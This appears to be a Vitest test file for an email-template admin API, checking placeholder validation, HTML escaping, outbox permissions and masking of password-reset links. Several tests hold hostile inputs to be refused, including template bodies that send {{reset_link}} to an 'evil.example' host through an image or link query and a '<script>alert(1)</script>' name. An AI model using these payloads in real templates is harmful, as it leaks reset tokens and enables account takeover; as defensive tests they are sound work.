import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { USER_DEFAULTS } from '@backoffice/contract/users';
import { SEED_ROLES } from '../src/seed/seed.js';
import type { Mailer } from '../src/core/mail/mailer.js';
import { createTestApp, useTestApp } from './helpers/test-app.js';
import { bearer, createUser, linkToken, readOutbox, signIn } from './helpers/auth.js';
import { TEST_ADMIN_EMAIL, TEST_ADMIN_PASSWORD } from './helpers/test-config.js';

const outbox = fs.mkdtempSync(path.join(os.tmpdir(), 'outbox-'));
afterAll(() => fs.rmSync(outbox, { recursive: true, force: true }));
// the new investor's link goes to the investor site, written as a pattern (REQ-RULES-6)
const ctx = useTestApp({
  env: {
    OUTBOX_DIR: outbox,
    INVESTOR_SITE_URL: 'http://localhost:80/reset-password/:resetPasswordToken',
  },
});

const call = (
  method: 'GET' | 'POST' | 'PUT' | 'DELETE',
  url: string,
  headers = ctx.admin,
  payload?: object,
) => ctx.app.inject({ method, url, headers, ...(payload ? { payload } : {}) });

const codes = (res: { json(): { errors: { code: string; context?: string }[] } }) =>
  res.json().errors.map((e) => `${e.code}@${e.context ?? ''}`);

async function template(type: string) {
  const list = (await call('GET', '/api/admin/email/template')).json();
  const found = list.items.find((t: { type: string }) => t.type === type);
  expect(found).toBeDefined();
  return found as {
    id: number;
    version: number;
    name: { pl: string; en: string };
    subject: { pl: string; en: string };
    body: { pl: string; en: string };
    defaultBody: { pl: string; en: string };
  };
}

describe('Email templates', () => {
  it('seeds both templates in pl and en and serves the placeholders of each type', async () => {
    const reset = await template('reset-password');
    expect(reset.subject).toEqual({ pl: 'Ustaw nowe hasło', en: 'Set a new password' });
    expect(reset.body.pl).toContain('{{reset_link}}');
    expect(reset.defaultBody).toEqual(reset.body);
    await template('new-account');
    await template('email-changed');
    const config = (await call('GET', '/api/admin/email/template/config')).json();
    expect(config).toContainEqual({
      type: 'reset-password',
      variables: expect.arrayContaining([{ name: 'reset_link', required: true }]),
    });
    expect((await call('GET', '/api/admin/email/template/999999')).statusCode).toBe(404);
  });

  it("brings a body still as an earlier version seeded it to today's, keeps an edited one, and greets in the vocative (REQ-POLISH-3)", async () => {
    const { emailTemplate } = await import('../src/modules/email-templates/schema.js');
    const { FORMER_BODIES } = await import('../src/modules/email-templates/former-defaults.js');
    const { DEFAULT_TEMPLATES } = await import('../src/modules/email-templates/defaults.js');
    const { seedDefaultTemplates } = await import('../src/modules/email-templates/service.js');
    const { users } = await import('../src/db/schema/index.js');
    const { eq } = await import('drizzle-orm');
    const formerReset = FORMER_BODIES['reset-password']?.[0];
    const formerChanged = FORMER_BODIES['email-changed']?.[0];
    if (!formerReset || !formerChanged) throw new Error('the former bodies are missing');
    // an install seeded by an earlier version: one body as seeded, one edited in Polish
    await ctx.db
      .update(emailTemplate)
      .set({ body: formerReset })
      .where(eq(emailTemplate.type, 'reset-password'));
    const editedPl = '<p>Witamy, {{first_name}}!</p><p>Zmieniono adres na {{new_email}}.</p>';
    await ctx.db
      .update(emailTemplate)
      .set({ body: { pl: editedPl, en: formerChanged.en } })
      .where(eq(emailTemplate.type, 'email-changed'));
    const before = await template('reset-password');

    await seedDefaultTemplates(ctx.db);
    const reset = await template('reset-password');
    expect(reset.body).toEqual(DEFAULT_TEMPLATES['reset-password'].body);
    expect(reset.body.pl).toContain('<p>{{greeting}}</p>');
    expect(reset.version).toBe(before.version + 1);
    const changed = await template('email-changed');
    expect(changed.body).toEqual({
      pl: editedPl,
      en: DEFAULT_TEMPLATES['email-changed'].body.en,
    });
    // a second start changes nothing more
    await seedDefaultTemplates(ctx.db);
    expect((await template('reset-password')).version).toBe(reset.version);

    // the rendered Polish mail greets Anna in the vocative
    const user = await createUser(ctx.db);
    await ctx.db
      .update(users)
      .set({ firstName: 'Anna', language: 'pl' })
      .where(eq(users.id, user.id));
    const requested = await ctx.app.inject({
      method: 'POST',
      url: '/api/user/reset-password',
      headers: { host: 'localhost:80', 'accept-language': 'pl' },
      payload: {
        email: user.email,
        activationUrlPattern: 'http://localhost:80/reset-password/:resetPasswordToken',
      },
    });
    expect(requested.statusCode).toBe(200);
    const message = await readOutbox(outbox, user.email);
    expect(message.html).toContain('<p>Dzień dobry, Anno!</p>');
    expect(message.html).not.toContain('Dzień dobry Anna');
  });

  it('refuses a body without a required placeholder, naming it on the field; 409 when stale', async () => {
    const reset = await template('reset-password');
    const res = await call('PUT', `/api/admin/email/template/${reset.id}`, ctx.admin, {
      name: reset.name,
      subject: reset.subject,
      body: { pl: '<p>Bez linku</p>', en: reset.body.en },
      version: reset.version,
    });
    expect(res.statusCode).toBe(400);
    expect(codes(res)).toEqual(['EMAIL_TEMPLATE:REQUIRED_PLACEHOLDER_MISSING@body.pl']);
    expect(res.json().errors[0].message).toContain('{{reset_link}}');
    // a placeholder the type does not know would go out as typed: refused where it is, named
    const typo = await call('PUT', `/api/admin/email/template/${reset.id}`, ctx.admin, {
      name: reset.name,
      subject: { pl: reset.subject.pl, en: 'Hi {{frist_name}}' },
      body: { pl: reset.body.pl, en: `${reset.body.en}<p>{{bad}} {{first_name}}</p>` },
      version: reset.version,
    });
    expect(typo.statusCode).toBe(400);
    expect(codes(typo)).toEqual([
      'EMAIL_TEMPLATE:UNKNOWN_PLACEHOLDER@subject.en',
      'EMAIL_TEMPLATE:UNKNOWN_PLACEHOLDER@body.en',
    ]);
    expect(typo.json().errors[0].message).toContain('{{frist_name}}');
    expect(typo.json().errors[1].message).toContain('{{bad}}');
    expect(typo.json().errors[1].message).not.toContain('first_name');
    const stale = await call('PUT', `/api/admin/email/template/${reset.id}`, ctx.admin, {
      name: reset.name,
      subject: { pl: 'Inny temat', en: reset.subject.en },
      body: reset.body,
      version: reset.version + 5,
    });
    expect(stale.statusCode).toBe(409);
  });

  it('drops a remote image from a template body and keeps one from our uploads', async () => {
    const reset = await template('reset-password');
    const own = '/uploads/0b7c6f1e-3a7d-4c1e-9f6a-2b1c3d4e5f60/display.webp';
    const res = await call('PUT', `/api/admin/email/template/${reset.id}`, ctx.admin, {
      name: reset.name,
      subject: reset.subject,
      body: {
        pl: `<p><a href="{{reset_link}}">{{reset_link}}</a></p><p><img src="https://evil.example/p.png" alt="x"><img src="${own}" alt="logo"></p>`,
        en: reset.body.en,
      },
      version: reset.version,
    });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json().body.pl).toBe(
      `<p><a href="{{reset_link}}">{{reset_link}}</a></p><p><img src="${own}" alt="logo"></p>`,
    );
    const restored = await call('PUT', `/api/admin/email/template/${reset.id}`, ctx.admin, {
      name: reset.name,
      subject: reset.subject,
      body: reset.body,
      version: res.json().version,
    });
    expect(restored.statusCode, restored.body).toBe(200);
  });

  it('password reset and new-account emails use the edited templates, escaping the values', async () => {
    const reset = await template('reset-password');
    const edited = await call('PUT', `/api/admin/email/template/${reset.id}`, ctx.admin, {
      name: reset.name,
      subject: { pl: 'Nowe hasło — {{first_name}}', en: 'Your new password, {{first_name}}' },
      body: {
        pl: reset.body.pl,
        en: '<p>Hi {{first_name}}, reset here: <a href="{{reset_link}}">reset</a></p>',
      },
      version: reset.version,
    });
    expect(edited.statusCode, edited.body).toBe(200);
    expect(edited.json().body.en).toContain('href="{{reset_link}}"');

    const user = await createUser(ctx.db);
    const { users } = await import('../src/db/schema/index.js');
    const { eq } = await import('drizzle-orm');
    await ctx.db
      .update(users)
      .set({ firstName: '<script>alert(1)</script>' })
      .where(eq(users.id, user.id));
    const requested = await ctx.app.inject({
      method: 'POST',
      url: '/api/user/reset-password',
      headers: { host: 'localhost:80', 'accept-language': 'en' },
      payload: {
        email: user.email,
        activationUrlPattern: 'http://localhost:80/reset-password/:resetPasswordToken',
      },
    });
    expect(requested.statusCode).toBe(200);
    const message = await readOutbox(outbox, user.email);
    expect(message.subject).toBe('Your new password, <script>alert(1)</script>');
    expect(message.html).toContain('Hi &#60;script&#62;alert(1)&#60;/script&#62;, reset here');
    expect(message.html).not.toContain('<script>');
    expect(linkToken(message.text)).toMatch(/.+/);

    const account = await template('new-account');
    await call('PUT', `/api/admin/email/template/${account.id}`, ctx.admin, {
      name: account.name,
      subject: { pl: 'Konto czeka', en: 'Your account is waiting' },
      body: {
        pl: '<p>Witaj {{first_name}}: <a href="{{set_password_link}}">ustaw hasło</a></p>',
        en: account.body.en,
      },
      version: account.version,
    });
    const email = `nowy-${Date.now()}@example.com`;
    const created = await ctx.app.inject({
      method: 'POST',
      url: '/api/admin/user',
      headers: { ...ctx.admin, 'accept-language': 'pl' },
      payload: {
        data: { ...USER_DEFAULTS, email, firstName: 'Ewa', lastName: 'Nowa' },
        resetPasswordUrlPattern: 'http://localhost:80/reset-password/:resetPasswordToken',
      },
    });
    expect(created.statusCode, created.body).toBe(201);
    const welcome = await readOutbox(outbox, email);
    expect(welcome.subject).toBe('Konto czeka');
    expect(welcome.html).toContain('Witaj Ewa');
    expect(welcome.text).toContain('http://localhost:80/reset-password/');
  });

  it('sends a test message to the outbox and lists it among the sent emails', async () => {
    const sent = await call('POST', '/api/admin/email/template/test-message', ctx.admin, {
      type: 'reset-password',
      email: 'tester@example.com',
      subject: 'Test: {{first_name}}',
      body: '<p>Link: <a href="{{reset_link}}">tutaj</a></p>',
    });
    expect(sent.statusCode, sent.body).toBe(200);
    const message = await readOutbox(outbox, 'tester@example.com');
    expect(message.subject).toBe('Test: Anna');
    expect(message.html).toContain('href="https://example.com/set-password/TEST-TOKEN"');

    const missing = await call('POST', '/api/admin/email/template/test-message', ctx.admin, {
      type: 'reset-password',
      email: 'tester@example.com',
      subject: 'Test',
      body: '<p>No link</p>',
    });
    expect(codes(missing)).toEqual(['EMAIL_TEMPLATE:REQUIRED_PLACEHOLDER_MISSING@body']);
    const unknown = await call('POST', '/api/admin/email/template/test-message', ctx.admin, {
      type: 'reset-password',
      email: 'tester@example.com',
      subject: 'Test {{bad}}',
      body: '<p><a href="{{reset_link}}">tutaj</a></p>',
    });
    expect(codes(unknown)).toEqual(['EMAIL_TEMPLATE:UNKNOWN_PLACEHOLDER@subject']);

    const outboxList = (await call('GET', '/api/admin/email/outbox')).json();
    expect(outboxList.transport).toBe('outbox');
    expect(outboxList.items.map((m: { to: string }) => m.to)).toContain('tester@example.com');
  });

  it('answers CANT_SEND_MESSAGE when the mail server refuses', async () => {
    const failing: Mailer = {
      kind: 'smtp',
      send: () => Promise.reject(new Error('535 authentication failed for secret@host')),
    };
    const other = await createTestApp({
      beforeReady: (app) => void Object.assign(app.deps, { mailer: failing }),
    });
    try {
      const token = bearer(
        (await signIn(other.app, TEST_ADMIN_EMAIL, TEST_ADMIN_PASSWORD)).accessToken,
      );
      const res = await other.app.inject({
        method: 'POST',
        url: '/api/admin/email/template/test-message',
        headers: token,
        payload: {
          type: 'new-account',
          email: 'tester@example.com',
          subject: 'Test',
          body: '<p>{{set_password_link}}</p>',
        },
      });
      expect(res.statusCode).toBe(502);
      expect(codes(res)).toEqual(['EMAIL_TEMPLATE:CANT_SEND_MESSAGE@']);
      expect(res.body).not.toContain('secret@host');
    } finally {
      await other.close();
    }
  });

  it('refuses a password link in an image, an attribute or a link query, on the body field with its name; a plain link saves', async () => {
    const reset = await template('reset-password');
    const save = (en: string, version = reset.version) =>
      call('PUT', `/api/admin/email/template/${reset.id}`, ctx.admin, {
        name: reset.name,
        subject: reset.subject,
        body: { pl: reset.body.pl, en },
        version,
      });
    // a remote image goes on save (the plain link keeps the required placeholder in the body)
    for (const body of [
      '<p><img src="https://evil.example/p.png?{{reset_link}}" alt="x"> <a href="{{reset_link}}">go</a></p>',
      '<p><img src="{{reset_link}}" alt="x"> <a href="{{reset_link}}">go</a></p>',
      '<p><a href="https://evil.example/?next={{reset_link}}">Set password</a></p>',
      '<p><span style="color: red" title="{{reset_link}}">x</span> <a href="{{reset_link}}">go</a></p>',
    ]) {
      const refused = await save(body);
      expect(refused.statusCode, body).toBe(400);
      expect(codes(refused), body).toEqual([
        'EMAIL_TEMPLATE:SECRET_PLACEHOLDER_OUTSIDE_LINK@body.en',
      ]);
      expect(refused.json().errors[0].message).toContain('{{reset_link}}');
    }
    const test = await call('POST', '/api/admin/email/template/test-message', ctx.admin, {
      type: 'new-account',
      email: 'tester@example.com',
      subject: 'Test',
      body: '<p><img src="https://evil.example/p.png?{{set_password_link}}"></p>',
    });
    expect(codes(test)).toEqual(['EMAIL_TEMPLATE:SECRET_PLACEHOLDER_OUTSIDE_LINK@body']);
    expect(test.json().errors[0].message).toContain('{{set_password_link}}');

    const plain = await save('<p><a href="{{reset_link}}">{{reset_link}}</a></p>');
    expect(plain.statusCode, plain.body).toBe(200);
    expect(plain.json().body.en).toBe('<p><a href="{{reset_link}}">{{reset_link}}</a></p>');
  });

  it('refuses a password link in the subject, on the subject field with its name, on save and on the test send', async () => {
    const reset = await template('reset-password');
    const refused = await call('PUT', `/api/admin/email/template/${reset.id}`, ctx.admin, {
      name: reset.name,
      subject: { pl: 'Reset {{reset_link}}', en: 'Reset {{ reset_link }}' },
      body: reset.body,
      version: reset.version,
    });
    expect(refused.statusCode).toBe(400);
    expect(codes(refused)).toEqual([
      'EMAIL_TEMPLATE:SECRET_PLACEHOLDER_OUTSIDE_LINK@subject.pl',
      'EMAIL_TEMPLATE:SECRET_PLACEHOLDER_OUTSIDE_LINK@subject.en',
    ]);
    expect(refused.json().errors[0].message).toContain('{{reset_link}}');
    expect((await template('reset-password')).subject).toEqual(reset.subject);

    const test = await call('POST', '/api/admin/email/template/test-message', ctx.admin, {
      type: 'new-account',
      email: 'tester@example.com',
      subject: 'Your link {{set_password_link}}',
      body: '<p><a href="{{set_password_link}}">Set password</a></p>',
    });
    expect(test.statusCode).toBe(400);
    expect(codes(test)).toEqual(['EMAIL_TEMPLATE:SECRET_PLACEHOLDER_OUTSIDE_LINK@subject']);
    expect(test.json().errors[0].message).toContain('{{set_password_link}}');
  });

  it('refuses a password link as an href with NBSP before it (a relative link, resolved on the webmail host)', async () => {
    const reset = await template('reset-password');
    const refused = await call('PUT', `/api/admin/email/template/${reset.id}`, ctx.admin, {
      name: reset.name,
      subject: reset.subject,
      body: { pl: reset.body.pl, en: '<p><a href="&nbsp;{{reset_link}}">Set password</a></p>' },
      version: reset.version,
    });
    expect(refused.statusCode).toBe(400);
    expect(codes(refused)).toEqual(['EMAIL_TEMPLATE:SECRET_PLACEHOLDER_OUTSIDE_LINK@body.en']);
  });

  it('sends a reset mail from a stored body nested 9,000 elements deep (under the rich-text limit), never a 500', async () => {
    // stored past the sanitiser (as a restored backup would be), which takes it too long here
    const { emailTemplate } = await import('../src/modules/email-templates/schema.js');
    const { eq } = await import('drizzle-orm');
    const reset = await template('reset-password');
    const deep = `${'<span>'.repeat(9000)}<a href="{{reset_link}}">reset</a>`;
    await ctx.db
      .update(emailTemplate)
      .set({ body: { pl: deep, en: deep } })
      .where(eq(emailTemplate.id, reset.id));
    try {
      const user = await createUser(ctx.db);
      const requested = await ctx.app.inject({
        method: 'POST',
        url: '/api/user/reset-password',
        headers: { host: 'localhost:80', 'accept-language': 'en' },
        payload: {
          email: user.email,
          activationUrlPattern: 'http://localhost:80/reset-password/:resetPasswordToken',
        },
      });
      expect(requested.statusCode, requested.body).toBe(200);
      expect(linkToken((await readOutbox(outbox, user.email)).text)).toMatch(/.+/);
    } finally {
      await ctx.db
        .update(emailTemplate)
        .set({ body: reset.body })
        .where(eq(emailTemplate.id, reset.id));
    }
  });

  it('the outbox is its own permission, which the content editor role lacks, and shows every password link as ••••', async () => {
    expect(SEED_ROLES.find((role) => role.slug === 'content-editor')?.grants).not.toContain(
      'admin:email:outbox',
    );
    const editor = await createUser(ctx.db, {
      permissions: ['admin:email-template:list', 'admin:email-template:get'],
    });
    const editorHeaders = bearer(
      (await signIn(ctx.app, editor.email, editor.password)).accessToken,
    );
    expect((await call('GET', '/api/admin/email/outbox', editorHeaders)).statusCode).toBe(403);

    // the attack: a public reset for the super admin, then read the outbox
    const requested = await ctx.app.inject({
      method: 'POST',
      url: '/api/user/reset-password',
      headers: { 'accept-language': 'en' },
      payload: {
        email: TEST_ADMIN_EMAIL,
        activationUrlPattern: 'http://localhost/reset-password/:resetPasswordToken',
      },
    });
    expect(requested.statusCode).toBe(200);
    const delivered = await readOutbox(outbox, TEST_ADMIN_EMAIL);
    const token = linkToken(delivered.text); // the delivery keeps the live link
    expect(token.length).toBeGreaterThan(10);

    const reader = await createUser(ctx.db, { permissions: ['admin:email:outbox'] });
    const readerHeaders = bearer(
      (await signIn(ctx.app, reader.email, reader.password)).accessToken,
    );
    const listed = await call('GET', '/api/admin/email/outbox', readerHeaders);
    expect(listed.statusCode).toBe(200);
    expect(listed.body).not.toContain(token);
    expect(listed.body).not.toContain(encodeURIComponent(token));
    const shown = (listed.json().items as { to: string; html: string; text: string }[]).find(
      (message) => message.to === TEST_ADMIN_EMAIL,
    );
    expect(shown?.html).toContain('href="http://localhost/reset-password/••••"');
    expect(shown?.text).toContain('http://localhost/reset-password/••••');
  });

  it('checks permissions on every route', async () => {
    const limited = await createUser(ctx.db, {
      permissions: ['admin:email-template:list'],
    });
    const headers = bearer((await signIn(ctx.app, limited.email, limited.password)).accessToken);
    expect((await call('GET', '/api/admin/email/template', headers)).statusCode).toBe(200);
    expect((await call('GET', '/api/admin/email/template/config', headers)).statusCode).toBe(403);
    expect(
      (
        await call('POST', '/api/admin/email/template/test-message', headers, {
          type: 'reset-password',
          email: 'a@example.com',
          subject: 's',
          body: '{{reset_link}}',
        })
      ).statusCode,
    ).toBe(403);
  });
});
